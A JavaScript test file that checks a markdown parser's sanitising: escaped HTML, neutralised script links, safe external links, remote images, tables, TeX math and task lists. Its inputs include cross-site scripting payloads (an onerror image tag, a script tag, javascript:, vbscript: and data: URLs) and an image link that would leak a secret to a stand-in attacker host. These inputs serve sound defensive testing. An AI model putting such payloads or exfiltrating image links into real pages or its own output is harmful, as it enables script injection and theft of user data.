import assert from "node:assert/strict";
import { test } from "node:test";
import { createParser } from "../../static/agency/md/parser.js";

const md = createParser();

test("HTML in a message is text", () => {
  const html = md.render('<img src=x onerror="alert(1)">\n\n<script>alert(1)</script>');
  assert.ok(!/<img|<script/.test(html));
});

test("links that would run a script are not links", () => {
  for (const url of [
    "javascript:alert(1)",
    "vbscript:x",
    "data:text/html,x",
    "&#106;avascript:alert(1)",
  ]) {
    assert.ok(!/href/.test(md.render(`[x](${url})`)), url);
  }
});

test("links lead out safely", () => {
  const html = md.render("[x](https://example.org)");
  assert.match(html, /target="_blank" rel="noopener noreferrer nofollow"/);
});

test("a picture from elsewhere is a link that names its place, and loads nothing", () => {
  const html = md.render("![chart](https://evil.example/?secret=1)");
  assert.ok(!/<img/.test(html));
  assert.match(html, /class="remote-image"/);
  assert.match(html, /evil\.example/);
});

test("a picture of this server is shown", () => {
  assert.match(md.render("![x](/api/photo/1/)"), /<img class="inline-image"/);
});

test("table alignment is a class, never a style", () => {
  const html = md.render("| a | b |\n|:-:|--:|\n| 1 | 2 |");
  assert.match(html, /class="align-center"/);
  assert.ok(!/style=/.test(html));
});

test("formulas keep their TeX, and money is no formula", () => {
  assert.match(
    md.render("so $a_1 < b$ holds"),
    /<span class="math" data-tex(="")?>a_1 &lt; b<\/span>/,
  );
  assert.match(
    md.render("$$\na\n$$"),
    /<div class="math" data-tex(="")? data-display(="")?>a<\/div>/,
  );
  assert.ok(!/math/.test(md.render("it costs $5 and then $6 more")));
});

test("task lists show boxes", () => {
  const html = md.render("- [x] done\n- [ ] open\n- plain [x]");
  assert.match(html, /<li class="task"><span class="box">☑<\/span>done/);
  assert.match(html, /<li class="task"><span class="box">☐<\/span>open/);
  assert.match(html, /<li>plain \[x\]/);
});
